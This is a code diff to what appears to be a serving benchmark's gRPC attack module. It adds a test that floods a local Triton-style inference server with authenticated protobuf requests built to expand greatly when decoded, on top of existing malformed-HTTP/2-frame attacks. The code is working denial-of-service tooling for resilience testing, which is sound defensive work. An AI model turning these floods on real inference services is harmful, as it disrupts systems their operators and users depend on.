@@ -1,9 +1,15 @@
-"""What hostile clients do on the gRPC port: frames of HTTP/2 that no client's library sends. None has the token."""
+"""What hostile clients do on the gRPC port: frames of HTTP/2 that no client's library sends, without the token; and
+messages that become much larger than they are, with it."""
 
 import asyncio
+import contextlib
+import itertools
 import struct
 
-from benchmarks.serving.attacks import Attack, Target, again_and_again, connected, flood
+import grpc
+from tritonclient.grpc import service_pb2 as messages
+
+from benchmarks.serving.attacks import KEY, Attack, Target, again_and_again, connected, first_model, flood
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
@@ -11,6 +17,7 @@ _END_STREAM, _END_HEADERS = 1, 4
 _METHOD = "/inference.GRPCInferenceService/ModelInfer"
 HEALTH = "/grpc.health.v1.Health/Check"
 _STREAMS = 100
+_TOKEN = (("authorization", f"Bearer {KEY}"),)
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
@@ -102,6 +109,46 @@ async def churn(target: Target) -> None:
         await writer.drain()
 
 
+_BYTES = 400_000  # of a message
+_CHANNELS, _CALLS = 8, 16  # calls of a channel at a time
+_ROWS = 100
+
+
+def _growing(model: str) -> list[bytes]:
+    """Messages whose empty or tiny fields become eight to fifty times as large."""
+    given, texts = {"name": "text", "datatype": "BYTES", "shape": [_ROWS]}, [b"w1 w2 w3 w4"] * _ROWS
+    contents = [
+        {"bytes_contents": texts, "int64_contents": [0] * _BYTES},
+        {"bytes_contents": texts, "uint64_contents": [1] * _BYTES},
+        {"bytes_contents": [b""] * (_BYTES // 2)},
+    ]
+    asked = [
+        messages.ModelInferRequest(model_name=model, inputs=[given | {"contents": each}]).SerializeToString()
+        for each in contents
+    ]
+    many = [bytes([number << 3 | 2, 0]) * (_BYTES // 2) for number in (4, 5, 6, 7)]  # parameters, inputs, ...
+    return asked + [messages.ModelInferRequest(model_name=model).SerializeToString() + each for each in many]
+
+
+async def contents(target: Target) -> None:
+    """Calls with messages that grow. With the token."""
+    growing = _growing(await first_model(target))
+
+    async def one(channel: grpc.aio.Channel, place: int) -> None:
+        for message in itertools.islice(itertools.cycle(growing), place, None):
+            if not target.goes_on():
+                return
+            with contextlib.suppress(grpc.RpcError):
+                await channel.unary_unary(_METHOD)(message, metadata=_TOKEN, timeout=20)
+
+    async def sixteen() -> None:
+        options = [("grpc.use_local_subchannel_pool", 1)]
+        async with grpc.aio.insecure_channel(f"127.0.0.1:{target.grpc_port}", options=options) as channel:
+            await asyncio.gather(*(one(channel, place) for place in range(_CALLS)))
+
+    await asyncio.gather(*(sixteen() for _ in range(_CHANNELS)))
+
+
 GRPC_ATTACKS: dict[str, Attack] = {
     "grpc-half-messages": half_messages,
     "grpc-half-probes": half_probes,
@@ -110,4 +157,5 @@ GRPC_ATTACKS: dict[str, Attack] = {
     "grpc-pings": pings,
     "grpc-idle-calls": idle_calls,
     "grpc-churn": churn,
+    "grpc-contents": contents,
 }
